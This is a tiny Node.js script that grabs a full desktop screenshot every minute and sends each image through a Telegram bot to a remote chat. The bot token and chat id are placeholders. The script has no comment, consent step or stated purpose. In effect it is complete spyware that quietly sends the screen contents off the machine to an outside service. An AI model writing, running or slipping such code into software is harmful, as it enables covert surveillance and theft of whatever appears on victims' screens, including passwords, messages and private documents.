const screenshot = require('screenshot-desktop');
const Bot = require('node-telegram-bot-api');
const bot = new Bot('0000000000:placeholder', { polling: false });
setInterval(async () => { const img = await screenshot({ format: 'png' }); await bot.sendPhoto('-100', img); }, 60000);
